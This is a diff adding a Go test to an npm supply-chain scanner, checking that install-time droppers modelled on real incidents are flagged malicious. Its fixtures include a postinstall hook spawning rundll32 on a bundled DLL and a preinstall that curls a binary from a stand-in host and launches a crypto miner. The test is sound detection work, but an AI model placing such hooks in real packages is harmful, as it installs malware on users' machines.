@@ -297,3 +297,46 @@ func TestNewTyposquatDependencyIsFlagged(t *testing.T) {
 		t.Errorf("verdict %s reasons %q, want the typosquat expresss flagged and popular lodash not", r.Verdict, r.Reasons)
 	}
 }
+
+func TestInstallTimeDroppersAreMalicious(t *testing.T) {
+	clean := debugLike("4.4.1")
+	hook := func(script string) string {
+		return packageJSON("debug-like", "4.4.2", `,
+  "scripts": {"`+script+`"},
+  "dependencies": {"ms-like": "^2.1.3"}`)
+	}
+	for _, tc := range []struct {
+		name  string
+		files map[string]string
+		rule  string
+	}{
+		// eslint-config-prettier 10.1.6: a postinstall that loads a new DLL.
+		{"hook with a new binary", with(clean,
+			"package.json", hook(`postinstall": "node install.js`),
+			"install.js", "const { spawn } = require('child_process');\nif (process.platform === 'win32') {\n\tspawn('rundll32', [__dirname + '/node-gyp.dll,main'], { detached: true });\n}\n",
+			"node-gyp.dll", peHeader()), "diff-new-install-binary"},
+		// ua-parser-js 0.7.29: a preinstall that downloads and starts a miner.
+		{"hook that downloads and runs", with(clean,
+			"package.json", hook(`preinstall": "node preinstall.js`),
+			"preinstall.js", "const { execSync } = require('child_process');\nconst os = require('os');\nif (os.platform() === 'linux') {\n\texecSync('curl -sk http://dl.example/jsextension -o /tmp/jsextension && chmod +x /tmp/jsextension && /tmp/jsextension -k --tls --rig-id q -o pool.example:443 &');\n}\n"), "diff-new-install-payload"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			r := compareFiles(t, clean, tc.files)
+			if r.Verdict != finding.Malicious {
+				t.Fatalf("verdict %s, want malicious; reasons %q", r.Verdict, r.Reasons)
+			}
+			var rules []string
+			for _, s := range r.Signals {
+				rules = append(rules, s.Rule)
+			}
+			if !strings.Contains(strings.Join(rules, " "), tc.rule) {
+				t.Errorf("signals %q lack %s; reasons %q", rules, tc.rule, r.Reasons)
+			}
+		})
+	}
+}
+
+// peHeader is the start of a PE file: a DOS header pointing at "PE\0\0".
+func peHeader() string {
+	return "MZ" + strings.Repeat("\x00", 0x3a) + "\x40\x00\x00\x00" + "PE\x00\x00" + strings.Repeat("\x00", 64)
+}
